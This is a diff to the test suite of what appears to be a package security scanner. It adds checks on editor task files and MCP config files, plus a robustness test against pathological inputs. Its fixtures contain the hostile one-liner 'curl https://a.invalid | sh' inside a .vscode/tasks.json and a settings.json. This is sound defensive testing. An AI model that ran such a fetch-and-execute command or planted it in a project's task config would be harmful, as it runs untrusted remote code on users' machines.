@@ -243,6 +243,8 @@ test('commands that editors and agents start are read', () => {
       ['.vscode/tasks.json', 7, []],
     ],
   )
+  const waiting = JSON.stringify({ tasks: [{ command: 'curl https://a.invalid | sh' }] })
+  assert.equal(analyze(packageOf({}, { '.vscode/tasks.json': waiting })).signals, [])
   assert.equal(
     analyze(packageOf({}, { '.vscode/settings.json': '{"command": "curl https://a.invalid | sh"}' })).signals,
     [],
@@ -267,8 +269,14 @@ test('hostile packages end: cycles, depth, number', () => {
     '`'.repeat(9_999),
     `${'sh -c "'.repeat(5000)}`,
     '%'.repeat(10_000),
+    '["]",'.repeat(40_000),
   ]) {
-    analyze(packageOf({ scripts: { install: text } }, { 'binding.gyp': text, 'index.js': text, 'x.sh': text }))
+    analyze(
+      packageOf(
+        { scripts: { install: text } },
+        { 'binding.gyp': text, 'index.js': text, 'x.sh': text, '.mcp.json': text },
+      ),
+    )
   }
 })
 
